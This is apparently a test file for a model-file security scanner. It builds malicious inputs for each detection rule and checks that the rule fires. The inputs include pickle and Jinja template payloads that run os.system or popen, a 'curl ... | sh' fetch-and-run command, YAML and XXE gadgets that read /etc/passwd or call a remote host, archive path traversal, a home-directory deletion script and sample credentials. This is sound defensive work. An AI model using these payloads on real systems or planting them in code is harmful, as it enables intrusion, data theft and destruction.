// The catalog's examples are claims: `modelaudit rules MA101` tells users that
// this input triggers this rule. Each case here builds the input its rule's
// `example` describes (or, where building it takes a real library, the committed
// fixture made that way), scans it as a user would (and triages the result with
// the config file, as the CLI does, for the config's own rules) and asserts the rule fires.
// A rule added to the catalog without a case here fails the last test.
import assert from "node:assert/strict";
import { dirname } from "node:path";
import { type RuleId, RULES } from "../../core/rules.ts";
import { parseConfig } from "../../cli/config.ts";
import { triage } from "../../cli/triage.ts";
import { scan, type ScanOptions } from "../../engine/scan.ts";
import { buildZip, PAYLOAD as ZIP_PICKLE } from "../scanners/zip/_zip.ts";
import type { WeightRuleId } from "../../scanners/weights/finding.ts";
import type { WeightsOptions } from "../../scanners/option_catalog.ts";
import { normals } from "../scanners/weights/_tensors.ts";
import { concat, END, entry } from "../scanners/tar/_tar.ts";

const latin1 = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
const fixture = (path: string) => Deno.readFile(new URL(`../../fixtures/${path}`, import.meta.url));

/** `os.system('echo pwned')` at protocol 0, the catalog's own MA101 example. */
const OS_SYSTEM = latin1("cos\nsystem\n(S'echo pwned'\ntR.");

async function gzip(bytes: Uint8Array): Promise<Uint8Array> {
  const stream = new Blob([bytes.slice()]).stream().pipeThrough(new CompressionStream("gzip"));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/** `inner`, wrapped `times` times in a protocol-3 pickle that calls `pickle.loads` on it (SHORT_BINBYTES, under 256). */
function loadsNested(inner: Uint8Array, times: number): Uint8Array {
  let pickle = inner;
  for (let i = 0; i < times; i++) {
    pickle = concat(
      latin1("\x80\x03cpickle\nloads\n(C"),
      Uint8Array.of(pickle.length),
      pickle,
      latin1("tR."),
    );
  }
  return pickle;
}

/** A protocol-2 list that holds the previous list twice, 30 times over: 2^30 references. */
function doublingLists(times: number): Uint8Array {
  const ops = [0x80, 0x02, 0x5d, 0x71, 0x00]; // PROTO 2, EMPTY_LIST, BINPUT 0
  for (let i = 0; i < times; i++) ops.push(0x28, 0x68, 0x00, 0x32, 0x6c, 0x71, 0x00, 0x30); // MARK GET DUP LIST PUT POP
  ops.push(0x68, 0x00, 0x2e); // BINGET 0, STOP
  return new Uint8Array(ops);
}

/** An .npy file of `total` bytes whose header declares `shape` float64 values. */
function npy(shape: string, total: number): Uint8Array {
  let header = `{'descr': '<f8', 'fortran_order': False, 'shape': ${shape}, }`;
  header = header.padEnd(Math.ceil((header.length + 11) / 64) * 64 - 11) + "\n";
  const bytes = new Uint8Array(total);
  bytes.set(
    latin1(`\x93NUMPY\x01\x00${String.fromCharCode(header.length & 0xff, header.length >> 8)}${header}`),
  );
  return bytes;
}

/** A folder of one committed fixture, named `name`. */
const fixtureCase = (name: string, path: string) => async (): Promise<ExampleCase> => ({
  files: { [name]: await fixture(path) },
});

/** A safetensors file: the header's length, the header, then `data`. */
function safetensors(header: string, data: Uint8Array = new Uint8Array(0)): Uint8Array {
  const json = new TextEncoder().encode(header);
  const length = new Uint8Array(8);
  new DataView(length.buffer).setBigUint64(0, BigInt(json.length), true);
  return concat(length, json, data);
}

/** A tensor entry of a safetensors header. */
const tensor = (name: string, dtype: string, shape: number[], offsets: [number, number]) =>
  `"${name}":{"dtype":"${dtype}","shape":${JSON.stringify(shape)},"data_offsets":${JSON.stringify(offsets)}}`;

/** A safetensors file with one small F32 tensor and `metadata` (string values, as the format requires). */
const withMetadata = (metadata: Record<string, unknown>) =>
  safetensors(
    `{"__metadata__":${JSON.stringify(metadata)},${tensor("w", "F32", [2], [0, 8])}}`,
    new Uint8Array(8),
  );

/** A folder of one safetensors file: `header`, then `dataBytes` zero bytes. */
const safetensorsCase = (header: string, dataBytes: number): ExampleCase => ({
  files: { "model.safetensors": safetensors(header, new Uint8Array(dataBytes)) },
});

const text = (value: string) => new TextEncoder().encode(value);

/** A GGUF v3 file with no tensors and these string metadata entries. */
function ggufOfStrings(entries: [string, string][]): Uint8Array {
  const string = (value: string) => {
    const bytes = text(value);
    const length = new Uint8Array(8);
    new DataView(length.buffer).setBigUint64(0, BigInt(bytes.length), true);
    return concat(length, bytes);
  };
  const head = new Uint8Array(24);
  const view = new DataView(head.buffer);
  head.set(text("GGUF"));
  view.setUint32(4, 3, true); // version
  view.setBigUint64(16, BigInt(entries.length), true); // tensor count 0, then the metadata count
  const STRING_TYPE = Uint8Array.of(8, 0, 0, 0);
  return concat(head, ...entries.flatMap(([key, value]) => [string(key), STRING_TYPE, string(value)]));
}

/** Protobuf field `number` of wire type 2 (bytes, string or message) holding `content` (under 16 KiB). */
function lengthDelimited(number: number, content: Uint8Array | string): Uint8Array {
  const bytes = typeof content === "string" ? text(content) : content;
  const length = bytes.length < 0x80 ? [bytes.length] : [(bytes.length & 0x7f) | 0x80, bytes.length >> 7];
  return concat(Uint8Array.of(number * 8 + 2, ...length), bytes);
}

/** An ONNX model whose graph is an `If` whose then_branch is an `If`..., `depth` levels, around a `Relu`. */
function nestedIfs(depth: number): Uint8Array {
  // GraphProto.node (1) holds NodeProto: op_type (4) and attributes (5), the branch as AttributeProto.g (6).
  let graph = lengthDelimited(1, lengthDelimited(4, "Relu"));
  for (let i = 0; i < depth; i++) {
    const branch = lengthDelimited(5, concat(lengthDelimited(1, "then_branch"), lengthDelimited(6, graph)));
    graph = lengthDelimited(1, concat(lengthDelimited(4, "If"), branch));
  }
  return concat(Uint8Array.of(0x08, 8), lengthDelimited(7, graph)); // ir_version 8, graph
}

/**
 * One rule's example: the files of a scanned folder `models/` (or symbolic links out of it), the
 * scan's options, and the `modelaudit.toml` beside the folder with the day the CLI triages on.
 */
interface ExampleCase {
  files: Record<string, Uint8Array | { symlinkOutside: true } | { sparseBytes: number }>;
  /** The one file of the folder to scan, as `modelaudit scan models/<file>`; the folder when unset. */
  scanOnly?: string;
  options?: ScanOptions;
  config?: { toml: string; today: string };
}

const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> = {
  MA001: () => ({ files: { "model.safetensors": OS_SYSTEM } }),
  MA002: () => ({ files: { "weights.bin": { symlinkOutside: true } } }),
  MA003: () => ({ files: { "checkpoint.pt": { sparseBytes: 12e9 } }, options: { maxFileSize: 1e9 } }),
  MA004: () => ({ files: { "evil_model.pkl": latin1("(lp0\nI1\na.") }, options: { blacklist: ["evil"] } }),
  MA005: () => ({
    files: { "model.pkl": latin1("cmylib\nupload\n(Vhttps://webhook.site/0c1d\ntR.") },
    options: { blacklist: ["webhook.site"] },
  }),
  // pickle.loads of a pickle that calls pickle.loads of ... os.system, three deep, scanned with --max-depth 1.
  MA006: () => ({ files: { "model.pkl": loadsNested(OS_SYSTEM, 3) }, options: { limits: { maxDepth: 1 } } }),
  MA007: () => ({
    files: { "pytorch_model.bin": Uint8Array.from({ length: 512 }, (_, i) => (i * 193 + 71) % 256) },
  }),
  MA008: () => ({ files: { "model.pkl": latin1("cos\nsystem\n".repeat(10_000) + ".") } }),
  // The tar header's name field starts with PROTO 2, BINBYTES: pickle readers skip the header as bytes.
  MA009: fixtureCase("model.tar", "polyglot/malicious/tar_binbytes.tar"),
  MA011: () => ({
    files: { "model.safetensors": withMetadata({ setup: "curl -s http://203.0.113.7/x.sh | sh" }) },
  }),
  MA012: () => ({
    files: { "model.safetensors": withMetadata({ state: btoa(String.fromCharCode(...OS_SYSTEM)) }) },
  }),
  MA090: () => ({
    files: { "legacy/model.pkl": latin1("cmylib.helpers\nmake_model\n.") },
    config: {
      toml:
        '[[ignore]]\nrule = "MA102"\npath = "models/legacy/**"\nreason = "vendor code"\nexpires = 2026-06-30\n',
      today: "2026-07-01",
    },
  }),
  MA010: fixtureCase("model.onnx", "onnx/external/traversal/model.onnx"),
  MA100: () => ({ files: { "model.pkl": latin1("cos\nsystem\n.") } }),
  MA101: () => ({ files: { "model.pkl": OS_SYSTEM } }),
  MA102: () => ({ files: { "model.pkl": latin1("cmylib.helpers\nmake_model\n.") } }),
  MA103: () => ({ files: { "model.pkl": latin1("cmylib.helpers\nmake_model\n(S'resnet'\ntR.") } }),
  MA104: () => ({ files: { "model.pkl": new Uint8Array([0x80, 0x02, 0x82, 0x01, 0x29, 0x52, 0x2e]) } }), // EXT1 1, (), REDUCE
  // PROTO 2, EMPTY_LIST, BINPUT 0, BININT1 1, APPEND: the STOP never comes.
  MA105: () => ({ files: { "model.pkl": new Uint8Array([0x80, 0x02, 0x5d, 0x71, 0x00, 0x4b, 0x01, 0x61]) } }),
  // FRAME of 8 bytes, then SHORT_BINUNICODE of 17 characters and STOP: 20 bytes.
  MA106: () => ({
    files: {
      "model.pkl": concat(
        new Uint8Array([0x80, 4, 0x95, 8, 0, 0, 0, 0, 0, 0, 0, 0x8c, 17]),
        latin1("echo pwned; ls -l."),
      ),
    },
  }),
  MA107: () => ({
    files: {
      "model.pkl": latin1(`(dp0\nVpayload\nV${btoa("\x80\x04" + String.fromCharCode(...OS_SYSTEM))}\ns.`),
    },
  }),
  MA108: () => ({
    files: { "model.pkl": latin1("cbuiltins\nexec\n(Vimport os; os.system('echo pwned')\ntR.") },
  }),
  MA109: () => ({ files: { "model.pkl": doublingLists(30) } }),
  MA110: () => ({ files: { "model.pkl": latin1("\x80\x02" + "(".repeat(10_001) + "N.") } }),
  MA111: () => ({ files: { "model.pkl": latin1("(dp0\nVcmd\nVimport os; os.system('echo pwned')\ns.") } }),
  MA200: async () => ({
    files: {
      "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, local: { name: "other.pkl" } }]),
    },
  }),
  MA201: async () => ({
    files: { "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, flags: 1 }]) },
  }),
  MA202: async () => ({
    files: { "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, crc32: 0x12345678 }]) },
  }),
  MA203: async () => ({
    files: {
      "model.zip": await buildZip([{ name: "a.pkl", data: ZIP_PICKLE }, {
        name: "b.pkl",
        data: ZIP_PICKLE,
        offset: 0,
      }]),
    },
  }),
  MA204: async () => ({
    files: { "model.zip": await buildZip([{ name: "../../.bashrc", data: latin1("echo pwned\n") }]) },
  }),
  MA205: () => ({
    files: { "model.tar": concat(entry("config.json", "", { type: "2", linkname: "/etc/passwd" }), END) },
  }),
  MA206: fixtureCase("model.zip", "zip/malicious/deflate_bomb.zip"),
  MA207: async () => ({
    files: { "model.pkl": concat(OS_SYSTEM, await buildZip([{ name: "data.pkl", data: latin1("N.") }])) },
  }),
  MA208: fixtureCase("model.zip", "zip/malicious/encrypted_member.zip"),
  MA209: async () => {
    const whole = await gzip(concat(OS_SYSTEM.subarray(0, -1), latin1(`S'${"x".repeat(4096)}'\n0.`)));
    return { files: { "model.pkl.gz": whole.subarray(0, whole.length >> 1) } };
  },
  MA210: async () => ({
    files: {
      "model.zip": await buildZip(["a.pkl", "b.pkl", "c.pkl"].map((name) => ({ name, data: latin1("N.") }))),
    },
    options: { limits: { maxMembers: 2 } },
  }),
  MA211: async () => ({
    files: {
      "model.zip": await buildZip([{ name: "archive/data.pkl", data: latin1("N.") }, {
        name: "archive/data.pkl",
        data: ZIP_PICKLE,
      }]),
    },
  }),
  MA212: async () => ({
    files: { "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, method: 98 }]) },
  }),
  MA213: fixtureCase("model.7z", "sevenzip/suspicious/encrypted_header.7z"),
  // torch.save's own members (stored, read from the committed checkpoint) and a script beside data.pkl.
  MA300: async () => ({
    files: { "model.pt": await withMember("pytorch/benign/state_dict.pt", "archive/payload.sh") },
  }),
  MA301: fixtureCase("model.pt", "pytorch/malicious/bad_torch2_metadata.pt"),
  MA302: fixtureCase("model.pt", "pytorch/malicious/torchscript_os_system.pt"),
  MA303: fixtureCase("model.pt", "pytorch/malicious/upper_case_data_pkl.pt"),
  MA310: () => ({ files: { "weights.npy": npy("(1000000,)", 200) } }),
  MA320: () => {
    // A real header follows, but its length field says 2^64 - 8: 8 + length wraps to 0 in 64 bits.
    const bytes = new Uint8Array(1024);
    bytes.set(safetensors(`{${tensor("w", "F32", [2], [0, 8])}}`));
    new DataView(bytes.buffer).setBigUint64(0, 0xFFFFFFFFFFFFFFF8n, true);
    return { files: { "model.safetensors": bytes } };
  },
  MA321: () => safetensorsCase(`{${tensor("a", "F32", [1], [0, 4])}}{${tensor("w", "F32", [1], [0, 4])}}`, 4),
  MA322: () =>
    safetensorsCase(
      `{${tensor("lm_head.weight", "F32", [2], [0, 8])},${tensor("lm_head.weight", "F32", [2], [8, 16])}}`,
      16,
    ),
  MA323: () => safetensorsCase(`{${tensor("w", "F128", [1], [0, 16])}}`, 16),
  MA324: () => safetensorsCase(`{${tensor("w", "F32", [1024, 1024], [0, 16])}}`, 16),
  MA325: () =>
    safetensorsCase(`{${tensor("a", "F32", [16], [0, 64])},${tensor("b", "F32", [16], [0, 64])}}`, 64),
  MA326: () => safetensorsCase(`{${tensor("w", "F32", [1024], [0, 4096])}}`, 1024),
  MA327: () => ({
    files: {
      "model.safetensors": safetensors(
        `{${tensor("w", "F32", [2], [0, 8])}}`,
        concat(new Uint8Array(8), OS_SYSTEM),
      ),
    },
  }),
  MA328: () => ({ files: { "model.safetensors": withMetadata({ config: { nested: [1, 2] } }) } }),
  MA329: () => ({ files: { "model.safetensors": withMetadata({ notes: "a".repeat(20e6) }) } }),
  MA330: () => ({
    files: { "model.safetensors": safetensors(`{${tensor("w", "F32", new Array(20e6).fill(0), [0, 0])}}`) },
  }),
  // GGUF files written by gguf-py's GGUFWriter (or its spec writer), then edited as the example says.
  MA340: fixtureCase("model.gguf", "gguf/malicious/huge_string_length.gguf"),
  MA341: fixtureCase("model.gguf", "gguf/malicious/bad_value_type.gguf"),
  MA342: fixtureCase("model.gguf", "gguf/malicious/ggml_type_negative.gguf"),
  MA343: fixtureCase("model.gguf", "gguf/malicious/offset_outside_file.gguf"),
  MA344: fixtureCase("model.gguf", "gguf/malicious/overlapping_tensors.gguf"),
  MA345: fixtureCase("model.gguf", "gguf/malicious/misaligned_offset.gguf"),
  MA346: fixtureCase("ggml-model-q4_0.bin", "gguf/benign/llama_ggjt_v3.bin"),
  MA347: fixtureCase("ggml-model-q4_0.bin", "gguf/malicious/ggjt_bad_version.bin"),
  MA348: () => ({
    files: {
      "model.gguf": ggufOfStrings([["tokenizer.chat_template", "{{ messages }}" + " ".repeat(20e6)]]),
    },
  }),
  MA349: fixtureCase("model.gguf", "gguf/malicious/trailing_pickle.gguf"),
  // ONNX models made by onnx.helper (external data by onnx's own external-data writer), then edited as said.
  MA460: fixtureCase("model.onnx", "onnx/malicious/pyop.onnx"),
  MA461: fixtureCase("model.onnx", "onnx/malicious/custom_domain.onnx"),
  MA462: fixtureCase("model.onnx", "onnx/malicious/unlisted_contrib.onnx"),
  MA463: fixtureCase("model.onnx", "onnx/external/file_url/model.onnx"),
  MA464: async () => ({
    files: {
      "model.onnx": await fixture("onnx/external/short/model.onnx"),
      "short.bin": await fixture("onnx/external/short/short.bin"),
    },
  }),
  MA465: fixtureCase("model.onnx", "onnx/malicious/truncated.onnx"),
  MA466: () => ({ files: { "model.onnx": nestedIfs(100) } }),
  MA467: async () => ({
    files: {
      "model.onnx": await fixture("onnx/external/saved/model.onnx"),
      "model.onnx.data": await fixture("onnx/external/saved/model.onnx.data"),
    },
    scanOnly: "model.onnx",
  }),
  // Keras models saved by Keras 2 and 3 (HDF5 and .keras), then edited as the example says.
  MA400: fixtureCase("model.h5", "keras/malicious/lambda_os_system.h5"),
  MA401: fixtureCase("model.keras", "keras/suspicious/lambda_arithmetic.keras"),
  MA402: fixtureCase("model.h5", "keras/malicious/lambda_garbage.h5"),
  MA403: fixtureCase("model.keras", "keras/malicious/module_injection.keras"),
  MA404: fixtureCase("model.keras", "keras/suspicious/custom_module.keras"),
  MA405: fixtureCase("model.keras", "keras/malicious/unsafe_switch.keras"),
  MA406: fixtureCase("model.keras", "keras/malicious/tfsm_layer.keras"),
  MA407: fixtureCase("model.keras", "keras/malicious/torch_module.keras"),
  MA408: fixtureCase("model.keras", "keras/malicious/unexpected_member.keras"),
  MA409: fixtureCase("model.keras", "keras/malicious/bad_config.keras"),
  MA410: fixtureCase("model.h5", "keras/malicious/truncated.h5"),
  MA411: fixtureCase("model.h5", "keras/malicious/external_link.h5"),
  MA412: fixtureCase("model.h5", "keras/malicious/user_block.h5"),
  MA413: fixtureCase("model.h5", "keras/suspicious/dense_attributes_deep.h5"),
  // TensorFlow graphs written by TensorFlow (SavedModels, frozen GraphDefs), then edited as the example says.
  MA430: fixtureCase("saved_model.pb", "tensorflow/malicious/pyfunc/saved_model.pb"),
  MA431: fixtureCase("frozen.pb", "tensorflow/malicious/read_file_frozen.pb"),
  MA432: fixtureCase("saved_model.pb", "tensorflow/malicious/restore_fixed_path/saved_model.pb"),
  MA433: fixtureCase("frozen.pb", "tensorflow/malicious/custom_op.pb"),
  MA434: fixtureCase("saved_model.pb", "tensorflow/malicious/truncated/saved_model.pb"),
  // GraphDef.node (field 1) 3,000 times, each an empty NodeDef, against a limit of 1,000.
  MA435: () => ({
    files: { "graph.pb": new Uint8Array(6_000).map((_, i) => i % 2 === 0 ? 0x0a : 0) },
    options: { scannerOptions: { tensorflow: { maxNodes: 1_000 } } },
  }),
  MA436: fixtureCase("keras_metadata.pb", "tensorflow/malicious/keras_lambda/keras_metadata.pb"),
  MA437: fixtureCase("keras_metadata.pb", "tensorflow/malicious/keras_lambda/keras_metadata.pb"),
  MA600: () => ({ files: { "modeling_evil.py": text('import os\nos.system("echo pwned")\n') } }),
  MA601: () => ({
    files: {
      "modeling_evil.py": text(
        'import subprocess\nclass Model:\n    def __init__(self):\n        subprocess.run(["echo", "pwned"])\n',
      ),
    },
  }),
  MA602: () => ({
    files: { "modeling_evil.py": text('import os, shutil\nshutil.rmtree(os.path.expanduser("~"))\n') },
  }),
  MA603: () => ({ files: { "modeling_broken.py": text("def broken(:\n    pass\n") } }),
  MA604: () => ({ files: { "modeling_huge.py": text("#".repeat(16 * 1024 * 1024) + "\n") } }),
  MA500: () => ({
    files: {
      "tokenizer_config.json": text(
        JSON.stringify({ chat_template: "{{ lipsum.__globals__['os'].popen('echo pwned').read() }}" }),
      ),
    },
  }),
  MA501: () => ({
    files: { "chat_template.jinja": text("{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}") },
  }),
  MA502: () => ({
    files: {
      "chat_template.jinja": text("{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}"),
    },
  }),
  MA503: () => ({ files: { "chat_template.jinja": text("{{ '\\137\\137globals\\137\\137' }}") } }),
  MA504: () => ({
    files: {
      "chat_template.jinja": text(
        "{% for c in ['__glo', 'bals__'] %}{% set ns.n = ns.n ~ c %}{% endfor %}{{ lipsum|attr(ns.n) }}",
      ),
    },
  }),
  MA505: () => ({
    files: { "tokenizer_config.json": text(JSON.stringify({ chat_template: { default: 42 } })) },
  }),
  MA520: () => ({ files: { "model_config.yaml": text("a: [1, 2\n") } }),
  MA521: () => ({
    files: { "config.json": text(JSON.stringify({ vocab: "x".repeat(2_000_000) })) },
    options: { scannerOptions: { config: { maxBytes: 1_000_000 } } },
  }),
  MA522: () => ({
    files: { "config.json": text('{"_target_": "torch.nn.Linear", "_target_": "os.system"}') },
  }),
  MA523: () => ({ files: { "config.yaml": text("run: !!python/object/apply:os.system ['echo pwned']\n") } }),
  MA524: () => ({
    files: {
      "config.yaml": text(
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.7/"]]]]\n',
      ),
    },
  }),
  MA525: fixtureCase("model.nemo", "config/malicious/asr_model_os_system.nemo"),
  MA526: () => ({ files: { "config.yaml": text("_target_: mypkg.build_everything\n") } }),
  MA527: fixtureCase("config.yaml", "config/malicious/alias_bomb.yaml"),
  MA528: () => ({
    files: {
      "model.pmml": text(
        '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4"><Header>&x;</Header></PMML>\n',
      ),
    },
  }),
  MA529: fixtureCase("lolz.xml", "config/malicious/entity_bomb.xml"),
  // msgpack files written by Python's msgpack in flax.serialization's layout, then edited as said.
  MA150: fixtureCase("flax_model.msgpack", "msgpack/malicious/truncated.msgpack"),
  MA151: async () => ({
    files: { "flax_model.msgpack": await fixture("msgpack/benign/flax_model.msgpack") },
    options: { scannerOptions: { msgpack: { maxBytes: 100 } } },
  }),
  MA152: fixtureCase("model.msgpack", "msgpack/malicious/unknown_ext.msgpack"),
  // TorchServe archives in torch-model-archiver's layout (scripts/make_repo_fixtures.py).
  MA636: fixtureCase("model.mar", "torchserve/malicious/custom_handler.mar"),
  MA637: fixtureCase("model.mar", "torchserve/malicious/missing_model.mar"),
  // Hugging Face folders as save_pretrained writes them (scripts/make_repo_fixtures.py), edited as said.
  MA630: () => huggingFaceCase("benign/remote_code"),
  MA631: () => huggingFaceCase("malicious/other_repository"),
  MA632: () => huggingFaceCase("malicious/missing_module"),
  MA633: () => huggingFaceCase("malicious/os_system_module"),
  MA634: () => huggingFaceCase("malicious/malformed_auto_map"),
  MA635: async () => ({
    files: { "pytorch_model.bin": await fixture("huggingface/malicious/lfs_pointers/pytorch_model.bin") },
  }),
  MA638: async () => ({
    ...await huggingFaceCase("benign/plain"),
    options: { scannerOptions: { huggingface: { maxConfigBytes: 16 } } },
  }),
};

/**
 * The config value checks of `scanners/secrets/` (MA540-MA557): each example is the value and key path
 * it names, written into a `deploy.json` at that key path and scanned (the config scanner runs the
 * checks on every string value).
 */
const VALUE_CASES: Partial<Record<RuleId, [value: string, keyPath: string]>> = {
  MA540: [
    [
      "-----BEGIN PRIVATE KEY-----",
      "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
      "q8Zr2LxVt0PmW4kNc7YaB3".repeat(4),
      "-----END PRIVATE KEY-----",
    ]
      .join("\n"),
    "$.private_key",
  ],
  MA541: [["aQWk8JzFalHlsZfYcMMDktXP", "+tKsf2rcDkdfrUnW"].join(""), "$.aws_secret_access_key"],
  MA542: [["hf_", "ujzPdeIgxLdGncfBAepfJBdKhoOOLdKLzd"].join(""), "$.hub_token"],
  MA543: [
    [
      "DefaultEndpointsProtocol=https;AccountName=models;AccountKey=",
      "5gcF/Ha6ili8GjHEAD6+Wj9KfzjsQGMrb9h/ImB/LK777pzNk8cL6j5IXAAjlsHUqJoUD+/Ydua/5ZMs1SWOpQ==",
      ";EndpointSuffix=core.windows.net",
    ].join(""),
    "$.storage",
  ],
  MA544: [
    "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.kQ3vXz9P2mWcR7tLsY4nB8hJ1dF6gA0e",
    "$.auth_header",
  ],
  MA545: ["https://deploy:s3cr3tPassw0rd@models.example.com/simple", "$.mirror"],
  MA546: ["q8Zr2LxVt0PmW4kNc7YaB3", "$.wandb.api_key"],
  MA550: ["http://203.0.113.9/model.bin", "$.weights_url"],
  MA551: ["https://pastebin.com/raw/Ab12Cd34", "$.post_install"],
  MA552: ["https://bit.ly/3xYzAbC", "$.download_url"],
  MA553: ["https://a1b2c3.ngrok-free.app/collect", "$.callback_url"],
  MA554: ["https://transfer.sh/abc123/model.pt", "$.checkpoint"],
  MA555: ["file:///etc/passwd", "$.tokenizer_url"],
  MA556: ["http://models.example.com/resnet50.pth", "$.pretrained_url"],
  MA557: ["https://xn--uggingface-nzj.co/gpt2", "$.model_url"],
};

/** Every file of the Hugging Face fixture folder `folder`. */
async function huggingFaceCase(folder: string): Promise<ExampleCase> {
  const files: ExampleCase["files"] = {};
  for await (const entry of Deno.readDir(new URL(`../../fixtures/huggingface/${folder}`, import.meta.url))) {
    files[entry.name] = await fixture(`huggingface/${folder}/${entry.name}`);
  }
  return { files };
}

/** The members of the stored zip at `path` (as its central directory lists them), plus `extra` holding a script. */
async function withMember(path: string, extra: string): Promise<Uint8Array> {
  const { ZipReader, Uint8ArrayReader, Uint8ArrayWriter } = await import("@zip.js/zip.js");
  const reader = new ZipReader(new Uint8ArrayReader(await fixture(path)));
  const members = [];
  for (const member of await reader.getEntries()) {
    if (!member.directory) {
      members.push({ name: member.filename, data: await member.getData(new Uint8ArrayWriter()) });
    }
  }
  await reader.close();
  return buildZip([...members, { name: extra, data: latin1("#!/bin/sh\necho pwned\n") }]);
}

async function rulesFound(example: ExampleCase): Promise<string[]> {
  const root = await Deno.makeTempDir({ prefix: "modelaudit_rule_example_" });
  const outside = await Deno.makeTempFile({ prefix: "modelaudit_outside_" });
  try {
    const dir = `${root}/models`;
    await Deno.mkdir(dir);
    for (const [name, content] of Object.entries(example.files)) {
      const path = `${dir}/${name}`;
      await Deno.mkdir(dirname(path), { recursive: true });
      if (content instanceof Uint8Array) await Deno.writeFile(path, content);
      else if ("symlinkOutside" in content) await Deno.symlink(outside, path);
      else {
        using file = await Deno.create(path);
        await file.truncate(content.sparseBytes); // sparse: nothing is written, and the scan reads none of it
      }
    }
    const target = example.scanOnly === undefined ? dir : `${dir}/${example.scanOnly}`;
    let result = await scan([target], { sandbox: false, ...example.options });
    if (example.config) {
      const { ignores } = parseConfig(example.config.toml, "modelaudit.toml");
      result = await triage(result, {
        ignores: { file: "modelaudit.toml", entries: ignores },
        root,
        today: example.config.today,
      });
    }
    return [...result.findings, ...result.files.flatMap((file) => file.findings)].map((finding) =>
      finding.rule
    );
  } finally {
    await Deno.remove(root, { recursive: true });
    await Deno.remove(outside);
  }
}

for (const [id, build] of Object.entries(CASES)) {
  Deno.test(`${id}'s catalog example triggers it: ${RULES[id as RuleId].example}`, async () => {
    const found = await rulesFound(await build!());
    assert.ok(found.includes(id), `${id} not among ${JSON.stringify(found)}`);
  });
}

/** A JSON document holding `value` at `keyPath` (`$.a.b`: object keys only). */
function atKeyPath(keyPath: string, value: string): unknown {
  return keyPath.slice(2).split(".").reduceRight<unknown>((inner, key) => ({ [key]: inner }), value);
}

for (const [id, [value, keyPath]] of Object.entries(VALUE_CASES)) {
  Deno.test(`${id}'s catalog example triggers it in a config file: ${RULES[id as RuleId].example}`, async () => {
    const found = await rulesFound({
      files: { "deploy.json": text(JSON.stringify(atKeyPath(keyPath, value))) },
    });
    assert.ok(found.includes(id), `${id} not among ${JSON.stringify(found)}`);
  });
}

/** A float32 tensor to write: name, shape and values. */
type Weights = [name: string, shape: number[], values: Float32Array];

/** A folder of one safetensors file of float32 `tensors`, scanned with the weight analysis's `options`. */
function weightsCase(tensors: Weights[], options: Partial<WeightsOptions> = {}): ExampleCase {
  let offset = 0;
  const entries = tensors.map(([name, shape, values]) =>
    tensor(name, "F32", shape, [offset, offset += values.byteLength])
  );
  const data = concat(...tensors.map(([, , values]) => new Uint8Array(values.buffer)));
  return {
    files: { "model.safetensors": safetensors(`{${entries.join(",")}}`, data) },
    options: { scannerOptions: { weights: options } },
  };
}

/** A 10 x 64 head of units that share a direction, as trained units share features, with `edit` applied. */
function head(edit: (rows: Float32Array) => void): Weights[] {
  const common = normals(64, 0.1, 1);
  const rows = new Float32Array(640);
  for (let unit = 0; unit < 10; unit++) {
    rows.set(normals(64, 0.05, 10 + unit).map((value, k) => value + common[k]), unit * 64);
  }
  edit(rows);
  return [["fc.weight", [10, 64], rows], ["fc.bias", [10], normals(10, 0.05, 2)]];
}

/**
 * The weight analysis's rules: each case writes its rule's example as a safetensors file of the
 * tensors it describes, which a scan analyses as it does every model's.
 */
const WEIGHT_CASES: Record<WeightRuleId, () => ExampleCase> = {
  MA390: () => weightsCase([["fc.bias", [10], Float32Array.of(NaN, ...normals(9, 0.05, 1))]]),
  MA391: () => {
    const values = normals(64 * 64, 0.1, 1);
    values[100] = 1000;
    return weightsCase([["layer.weight", [64, 64], values]]);
  },
  MA392: () =>
    weightsCase(head((rows) => rows.subarray(3 * 64, 4 * 64).forEach((v, k, row) => row[k] = v * 50))),
  MA393: () =>
    weightsCase(head((rows) => {
      for (let k = 0; k < 64; k++) {
        let sum = 0;
        for (let unit = 0; unit < 10; unit++) if (unit !== 7) sum += rows[unit * 64 + k];
        rows[7 * 64 + k] = -sum / 9;
      }
    })),
  MA394: () => weightsCase([["fc1.weight", [32, 64], new Float32Array(32 * 64)]]),
  MA399: () => weightsCase([["layer.weight", [64, 64], normals(64 * 64, 0.1, 1)]], { maxReadElements: 1000 }),
};

for (const [id, build] of Object.entries(WEIGHT_CASES)) {
  Deno.test(`${id}'s catalog example triggers it in a scan's weight analysis: ${RULES[id as RuleId].example}`, async () => {
    const found = await rulesFound(build());
    assert.ok(found.includes(id), `${id} not among ${JSON.stringify(found)}`);
  });
}

Deno.test("every rule in the catalog has its example checked here", () => {
  const missing = Object.keys(RULES).filter((id) =>
    !(id in CASES) && !(id in VALUE_CASES) && !(id in WEIGHT_CASES)
  );
  assert.deepEqual(missing, [], "add a case to tests/core/rule_examples_test.ts for each");
});
